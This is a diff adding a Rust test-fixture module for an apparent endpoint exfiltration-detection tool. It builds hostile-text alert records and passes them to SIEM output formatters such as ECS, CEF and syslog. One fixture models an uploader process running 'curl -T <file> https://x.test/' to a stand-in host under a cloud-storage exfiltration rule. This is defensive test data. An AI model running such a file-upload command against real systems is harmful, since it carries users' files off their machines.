@@ -1,0 +1,191 @@
+//! Records with every field filled, as nasty as asked.
+
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
+use std::sync::Arc;
+
+use cloudward::model::*;
+use cloudward::sink::format::{self, Body, Sender};
+
+pub const START: i64 = 1_782_031_000_123_456_789;
+
+pub fn time(seconds: i64) -> Timestamp {
+    Timestamp::from_nanos(START + seconds * 1_000_000_000)
+}
+
+pub fn process(pid: i32, path: FilePath, args: &[&str], flags: u32) -> Arc<ProcessEvidence> {
+    let program = Program {
+        path: path.clone(),
+        path_truncated: false,
+        signing_id: Some("com.example.tool".into()),
+        team_id: Some("TEAMID1234".into()),
+        cdhash: Some(CdHash([0xab; 20])),
+        platform: false,
+        flags: CodeSigning(flags),
+    };
+    let info = ProcessInfo {
+        key: ProcessKey { pid: Pid(pid), version: 7 },
+        program: Arc::new(program),
+        parent: None,
+        responsible: None,
+        ppid: Pid(1),
+        original_ppid: Pid(1),
+        group_id: Pid(pid),
+        session_id: Pid(pid),
+        euid: Uid(501),
+        ruid: Uid(501),
+        auid: Uid(501),
+        started: Some(time(-60)),
+        has_tty: true,
+        is_es_client: false,
+    };
+    Arc::new(ProcessEvidence {
+        info: Arc::new(info),
+        args: args.iter().map(|arg| Box::from(*arg)).collect(),
+        cwd: Some(path.clone()),
+        script: Some(Script { path }),
+        older_than_sensor: true,
+        invalidated: false,
+    })
+}
+
+pub fn flow(v6: bool) -> FlowEvidence {
+    let ip = |last| {
+        if v6 {
+            IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, last))
+        } else {
+            IpAddr::V4(Ipv4Addr::new(203, 0, 113, last as u8))
+        }
+    };
+    let hello = ClientHello {
+        version: 0x0304,
+        alpn: vec!["h2".into()],
+        ech: false,
+        ja4: Some("t13d1516h2_8daaf6152771_e5627efa2ab1".into()),
+    };
+    FlowEvidence {
+        transport: if v6 { Transport::Quic } else { Transport::Tcp },
+        client: Endpoint { ip: ip(1), port: 50_000 },
+        server: Endpoint { ip: ip(2), port: 443 },
+        domain: DomainName::from_wire(b"corp.s3.eu-west-1.amazonaws.com"),
+        source: Some(NameSource::TlsSni),
+        hello: Some(Arc::new(hello)),
+        bytes_out: 9_000,
+        bytes_in: 70,
+        start: time(1),
+        end: time(2),
+    }
+}
+
+/// Every text in it is `nasty`.
+pub fn alert(nasty: &[u8], flags: u32) -> Alert {
+    let path = FilePath::new(&[b"/Users/alice/", nasty].concat());
+    let text = String::from_utf8_lossy(nasty).into_owned();
+    let word: Arc<str> = Arc::from(text.as_str());
+    let uploader = process(4711, path.clone(), &["curl", "-T", &text, "https://x.test/"], flags);
+    let parent = process(4700, path.clone(), &[&text], flags);
+    let rule = |id: &str, severity, techniques: &[&str]| RuleRef {
+        id: id.into(),
+        name: Arc::clone(&word),
+        version: "1".into(),
+        severity,
+        techniques: techniques.iter().map(|id| Arc::from(*id)).collect(),
+    };
+    let read = |evidence| ReadEvidence {
+        path: path.clone(),
+        sets: vec![Arc::clone(&word), "documents".into()],
+        time: time(0),
+        process: Arc::clone(&parent),
+        evidence,
+    };
+    let reason = |code| Reason { code, text: format!("curl read {path} and {text}") };
+    Alert {
+        time: time(2),
+        id: AlertId([0x5a; 16]),
+        revision: 2,
+        count: 3,
+        severity: Severity::Critical,
+        confidence: Confidence::Medium,
+        rules: vec![
+            rule("cw.exfil.cloud-storage", Severity::High, &["T1567.002", "T1567"]),
+            rule(&text, Severity::Low, &["T1572", "T9999.001"]),
+        ],
+        reasons: vec![reason(ReasonCode::SensitiveRead), reason(ReasonCode::Uploaded)],
+        user: Uid(501),
+        user_name: Some(Arc::clone(&word)),
+        uploader: Arc::clone(&uploader),
+        reads: [Evidence::Open, Evidence::Argv, Evidence::Taint].into_iter().map(read).collect(),
+        reads_omitted: 5,
+        hops: vec![Hop {
+            kind: HopKind::Rename,
+            time: time(1),
+            process: Arc::clone(&parent),
+            path: Some(path),
+        }],
+        chain: vec![Arc::clone(&parent), parent],
+        flows: vec![flow(false), flow(true)],
+        service: Some(Arc::clone(&word)),
+        category: Some("object-store".into()),
+        tenant: Some(Arc::clone(&word)),
+        tenant_verdict: TenantVerdict::Foreign,
+        attribution: Attribution::Process,
+        window: (time(0), time(2), Span::from_secs(900)),
+        bytes_out: 18_000,
+        bytes_in: 140,
+        degraded: vec![CoverageKind::EventLoss],
+        config_hash: "0123456789abcdef".into(),
+    }
+}
+
+/// As little as an alert can have.
+pub fn bare() -> Alert {
+    Alert {
+        revision: 1,
+        rules: Vec::new(),
+        reasons: Vec::new(),
+        user_name: None,
+        reads: Vec::new(),
+        reads_omitted: 0,
+        hops: Vec::new(),
+        chain: Vec::new(),
+        flows: Vec::new(),
+        service: None,
+        category: None,
+        tenant: None,
+        degraded: Vec::new(),
+        ..alert(b"x", 0)
+    }
+}
+
+pub fn coverage(nasty: &[u8]) -> Coverage {
+    let text = String::from_utf8_lossy(nasty).into_owned();
+    Coverage { kind: CoverageKind::EventLoss, start: time(0), end: time(60), count: 12, text }
+}
+
+/// An alert, the barest alert and a coverage record.
+pub fn all(nasty: &[u8]) -> [Record; 3] {
+    let signed = CodeSigning::VALID | CodeSigning::SIGNED;
+    [
+        Record::Alert(Box::new(alert(nasty, signed))),
+        Record::Alert(Box::new(bare())),
+        Record::Coverage(coverage(nasty)),
+    ]
+}
+
+pub type Writer = fn(&Record) -> String;
+
+pub fn syslog(record: &Record, body: Body) -> String {
+    let sender = Sender { hostname: Some("mac-01.example.org"), process: Some(42), ..Sender::default() };
+    format::rfc5424(record, body, &sender) + "\n"
+}
+
+/// Everything that writes for machines, by name.
+pub const MACHINES: [(&str, Writer); 8] = [
+    ("ecs", format::ecs),
+    ("ocsf", format::ocsf),
+    ("cef", format::cef),
+    ("leef", format::leef),
+    ("rfc5424-ecs", |record| syslog(record, Body::Ecs)),
+    ("rfc5424-ocsf", |record| syslog(record, Body::Ocsf)),
+    ("rfc5424-cef", |record| syslog(record, Body::Cef)),
+    ("rfc5424-leef", |record| syslog(record, Body::Leef)),
+];
